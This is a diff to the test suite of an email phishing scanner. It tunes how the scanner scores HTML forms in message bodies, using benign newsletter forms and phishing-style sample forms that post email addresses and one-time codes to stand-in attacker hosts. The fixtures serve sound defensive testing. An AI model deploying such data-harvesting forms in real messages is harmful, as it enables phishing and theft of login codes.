@@ -113,6 +113,35 @@ describe('email.link.form_in_body', () => {
   it('stays silent without a form', async () => {
     expectAbsent(await scan('<p>Reply to this email to answer the survey.</p>'), ID);
   });
+  it('is high for two fields, whatever they are named', async () => {
+    const v = await scan(
+      '<form action="https://survey.attacker.example/s"><input name="q"><input type="email" name="email"></form>',
+    );
+    expect(expectFires(v, ID)).toMatchObject({
+      severity: 'high',
+      evidence: [
+        { text: '<form action="https://survey.attacker.example/s"> with 2 input(s) (text:q, email:email)' },
+      ],
+    });
+  });
+  it.each([
+    [
+      "a weather newsletter's city search posting to the brand's other site",
+      '<form name="searchform" action="http://www.weather-brand.example/search.htm" method="POST"><input type="text" name="recherche" size="15"><input type="image" name="submit" src="http://www.weather-brand.example/go.gif"></form>',
+    ],
+    [
+      "a newsletter's sign-up box at its mail service",
+      '<form action="http://ui.mail-service.example/d.jsp" method="post"><input name="m" type="hidden" value="1101264382870"><input name="p" type="hidden" value="oi"><input name="ea" size="15" type="text"><input type="submit" value="Join"></form>',
+    ],
+    [
+      'a form of buttons and choices',
+      '<form><input type="hidden" name="source" value="news"><input type="radio" name="sites" value="web" checked><input type="radio" name="sites" value="news"><input type="submit" value="SEARCH"></form>',
+    ],
+  ])('shows %s at low, which asks for nothing', async (_, html) => {
+    const v = await scan(html);
+    expect(expectFires(v, ID).severity).toBe('low');
+    expect(v.explanation?.gate?.ask ?? false).toBe(false);
+  });
 });
 
 describe('email.link.meta_refresh and email.link.script_url', () => {
@@ -329,7 +358,8 @@ describe('legitimate look-alikes get no link signal of medium or higher', () => 
     expect(strongLinkSignals(v)).toEqual([]);
   });
 
-  it('still flags a search-looking form that posts to another site, and any password form', async () => {
+  it('shows a search box posting to another site, flags a one-field code form and any password form', async () => {
+    // a query is not what an attacker collects: shown (low), not an ask; where it posts is a link
     const away = await analyzeEmail(
       eml({
         from: 'News <news@shop.example>',
@@ -337,7 +367,15 @@ describe('legitimate look-alikes get no link signal of medium or higher', () => 
       }),
       { scorer: null },
     );
-    expect(expectFires(away, 'email.link.form_in_body').severity).toBe('high');
+    expect(expectFires(away, 'email.link.form_in_body').severity).toBe('low');
+    const code = await analyzeEmail(
+      eml({
+        from: 'News <news@shop.example>',
+        html: '<form action="https://collect.attacker.example/s"><input name="otp" type="tel"><input type="submit"></form>',
+      }),
+      { scorer: null },
+    );
+    expect(expectFires(code, 'email.link.form_in_body').severity).toBe('high');
     const pw = await analyzeEmail(
       eml({
         from: 'Shop <no-reply@shop.example>',
